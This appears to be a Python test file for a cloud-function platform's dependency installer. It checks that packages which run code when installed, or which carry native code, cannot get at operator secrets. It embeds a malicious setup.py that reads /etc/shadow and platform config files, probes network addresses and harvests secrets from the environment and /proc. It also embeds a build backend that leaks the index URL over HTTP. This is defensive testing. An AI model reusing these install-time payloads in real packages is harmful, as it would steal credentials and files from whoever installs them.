"""Packages of Python functions that run code when they are installed, or that are not Python alone."""
import os
import shutil
import subprocess
import sys
import tempfile
import unittest

from python_index import Index, IndexTest, module, sdist, wheel

BACKEND = '''\
import os, urllib.request
urllib.request.urlopen("%s/told?" + os.environ.get("PIP_INDEX_URL", ""))
def get_requires_for_build_wheel(settings=None): return []
def prepare_metadata_for_build_wheel(folder, settings=None):
    os.mkdir(folder + "/inner-1.0.dist-info")
    with open(folder + "/inner-1.0.dist-info/METADATA", "w") as file:
        file.write("Metadata-Version: 2.1\\nName: inner\\nVersion: 1.0\\n")
    return "inner-1.0.dist-info"
'''

HOSTILE = '''\
import os, socket
from setuptools import setup
found = {}
for path in %(paths)r:
    try:
        with open(path) as f:
            found[path] = f.read(100)
    except OSError as error:
        pass
for address in %(addresses)r:
    try:
        socket.create_connection(address, 2).close()
        found[str(address)] = "connected"
    except OSError as error:
        pass
for name, value in os.environ.items():
    if "secret" in value or name.startswith("PIP_INDEX"):
        found[name] = value
for pid in os.listdir("/proc"):
    try:
        if b"secret" in open("/proc/%%s/environ" %% pid, "rb").read():
            found[pid] = "environment"
    except OSError:
        pass
os.makedirs("hostile", exist_ok=True)
open("hostile/__init__.py", "w").write("version = '1.0'\\nfound = %%r\\n" %% found)
setup(name="hostile", version="1.0", packages=["hostile"])
'''


class OwnAddress(IndexTest):
    """A wheel whose metadata names an archive of its author's, which pip would build at once to see what it needs."""

    login = 'operator:secret-of-the-operator'

    def test_its_code_does_not_run_beside_the_logins(self):
        author = Index()
        self.addCleanup(author.close)
        url = f'http://127.0.0.1:{author.port}'
        author.add(sdist('inner', '1.0', '', {'backend.py': BACKEND % url, 'pyproject.toml':
                                              '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'}))
        for index, option in ((self.index, ''), (author, f'--extra-index-url {author.url()}\n')):
            name = self.unique()
            index.add(module(name, '1.0', [f'inner @ {url}/files/inner/inner-1.0.tar.gz']))
            answer = self.with_requirements('def handler(event): pass\n', f'{option}{name}\n')
            self.refused(answer, 'inner, for which a package names an address of its own', 'inner-1.0.tar.gz')
            self.assertNotIn('secret-of-the-operator', answer.text)
        self.assertEqual([], [path for path in author.asked if path.startswith('/told')])


class OwnAddressWithSourceBuilds(OwnAddress):
    settings = {'executor.python.source_builds': 'true'}


class SourceBuilds(IndexTest):
    settings = {'executor.python.source_builds': 'true'}
    login = 'operator:secret-of-the-operator'

    def setUp(self):
        super().setUp()
        self.builders()

    def builders(self):
        """The build tools: those that this machine's interpreter has, as wheels."""
        if 'setuptools' in self.index.packages:
            return
        try:
            import ensurepip
            folder = os.path.join(os.path.dirname(ensurepip.__file__), '_bundled')
            names = [n for n in os.listdir(folder) if n.startswith('setuptools')]
        except (ImportError, OSError):
            names = []
        target = self.platform.home / 'builders'
        if not names:
            done = subprocess.run([sys.executable, '-m', 'pip', 'download', '-q', '--only-binary', ':all:', '-d', str(target),
                                   'setuptools<70', 'wheel'], timeout=120)
            if done.returncode != 0:
                self.skipTest('no setuptools wheel is at hand')
            folder, names = str(target), os.listdir(target)
        for name in names:
            with open(os.path.join(folder, name), 'rb') as file:
                self.index.add((name, file.read()))
        if 'wheel' not in self.index.packages:
            done = subprocess.run([sys.executable, '-m', 'pip', 'download', '-q', '--only-binary', ':all:', '-d', str(target),
                                   'wheel'], timeout=120)
            if done.returncode != 0:
                self.skipTest('no wheel of wheel is at hand')
            for name in os.listdir(target):
                self.index.add((name, (target / name).read_bytes()))

    def test_hostile_setup_gets_nothing(self):
        paths = ['/etc/shadow', '/etc/machine-id', str(self.platform.data / 'cloudfunction.db'),
                 str(self.platform.home / 'cloudfunction.properties'), '/proc/1/root/etc/shadow']
        setup = HOSTILE % {'paths': paths, 'addresses': [('127.0.0.1', self.index.port), ('127.0.0.1', self.platform.port),
                                                         ('1.1.1.1', 443)]}
        self.index.add(sdist('hostile', '1.0', setup))
        name = self.made(self.with_requirements('import hostile\ndef handler(event):\n    return hostile.found\n', 'hostile\n'))
        self.assertEqual({}, self.result(name))
        self.assertIn('# source', self.document_of(name)['locks']['requirements.lock'])

    def test_setup_that_fails_is_named(self):
        self.index.add(sdist('failing', '1.0', 'raise RuntimeError("error: this does not build")\n'))
        answer = self.with_requirements('def handler(event): pass\n', 'failing\n')
        self.refused(answer, 'building failing-1.0.tar.gz from its source failed', 'this does not build')


class Native(IndexTest):
    """Wheels with machine code, compiled here and now for the very interpreter of the platform."""

    MODULE = r'''
        #include <Python.h>
        static PyObject *multiply(PyObject *self, PyObject *args) {
            long a, b;
            return PyArg_ParseTuple(args, "ll", &a, &b) ? PyLong_FromLong(a * b) : NULL;
        }
        static PyMethodDef methods[] = {{"multiply", multiply, METH_VARARGS, ""}, {NULL, NULL, 0, NULL}};
        static struct PyModuleDef module = {PyModuleDef_HEAD_INIT, "_native", "", -1, methods};
        PyMODINIT_FUNC PyInit__native(void) { return PyModule_Create(&module); }
    '''

    def setUp(self):
        super().setUp()
        if not shutil.which('gcc'):
            self.skipTest('there is no gcc on this machine')
        self.include, self.suffix, self.python, machine = self.result(self.function(
            'python', 'import sys, sysconfig\ndef handler(event):\n'
            '    return [sysconfig.get_paths()["include"], sysconfig.get_config_var("EXT_SUFFIX"), "cp%d%d" % sys.version_info[:2],\n'
            '            sysconfig.get_platform().replace("-", "_").replace(".", "_")]\n'))
        self.tag = f'{self.python}-{self.python}-{machine}'

    def compiled(self, source, *options):
        """A shared library as bytes."""
        with tempfile.TemporaryDirectory() as folder:
            path = os.path.join(folder, 'library.so')
            done = subprocess.run(['gcc', '-shared', '-fPIC', '-O1', *options, '-x', 'c', '-', '-o', path],
                                  input=source.encode(), stderr=subprocess.PIPE)
            self.assertEqual(0, done.returncode, done.stderr.decode())
            with open(path, 'rb') as file:
                return file.read()

    def test_an_extension_module(self):
        if not os.path.exists(os.path.join(self.include, 'Python.h')):
            self.skipTest(f'there is no Python.h in {self.include}')
        library = self.compiled(self.MODULE, '-I', self.include)
        self.index.add(wheel('native', '1.0', {'native/__init__.py': 'from ._native import multiply\n',
                                               f'native/_native{self.suffix}': library}, tag=self.tag))
        name = self.function('python', 'import native\ndef handler(event):\n    return native.multiply(*event)\n',
                             dependencies=['native'])
        self.assertEqual(42, self.result(name, [6, 7]))

    def test_a_library_beside_a_module(self):
        library = self.compiled('long add(long a, long b) { return a + b; }\n')
        self.index.add(wheel('linked', '1.0', {
            'linked/__init__.py': 'import ctypes, os\nadd = ctypes.CDLL(os.path.join(os.path.dirname(__file__), "libadd.so")).add\n',
            'linked/libadd.so': library}, tag=self.tag))
        name = self.function('python', 'import linked\ndef handler(event):\n    return linked.add(*event)\n',
                             dependencies=['linked'])
        self.assertEqual(13, self.result(name, [6, 7]))

    def test_a_wheel_for_another_interpreter(self):
        self.index.add(wheel('foreign', '1.0', {'foreign.py': ''}, tag=self.tag.replace(self.python, 'cp36')))
        self.refused(self.with_requirements('def handler(event): pass\n', 'foreign\n'), 'no wheel of foreign fits Python')

if __name__ == '__main__':
    unittest.main()
